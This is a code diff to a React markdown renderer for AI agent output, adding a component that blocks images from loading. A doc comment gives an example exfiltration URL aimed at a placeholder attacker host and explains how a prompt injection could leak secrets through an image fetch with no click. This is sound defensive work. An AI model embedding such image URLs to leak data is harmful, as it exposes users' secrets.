@@ -57,14 +57,30 @@ function CodeBlock({ children, ...rest }: ComponentProps<"pre">) {
   );
 }
 
+/**
+ * An image in agent markdown is never loaded: a model (or a prompt injection in a file it read) could
+ * otherwise have the browser fetch `https://attacker.example/?q=<secret>` with no click (an
+ * exfiltration channel). It shows as its alt text and address instead; the CSP's `img-src` backs it up.
+ */
+function BlockedImage({ src, alt }: ComponentProps<"img">) {
+  const address = typeof src === "string" ? src : "";
+  return (
+    <span className="md-image-blocked" data-testid="blocked-image" title={address || undefined}>
+      [image{alt ? `: ${alt}` : ""}
+      {address ? ` (${address})` : ""}]
+    </span>
+  );
+}
+
 const components: Components = {
   pre: CodeBlock,
   a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer" />,
+  img: ({ node: _node, ...props }) => <BlockedImage {...props} />,
 };
 
 /**
  * The agent's text as GitHub-flavoured markdown. Raw HTML in the text is dropped (`skipHtml`), so a
- * model can never inject markup; code blocks are highlighted offline (highlight.js's common
+ * model can never inject markup (no frames, no scripts); images are not loaded (`BlockedImage`); code blocks are highlighted offline (highlight.js's common
  * languages, bundled) and carry a copy button.
  */
 export function Markdown({ text }: { text: string }) {
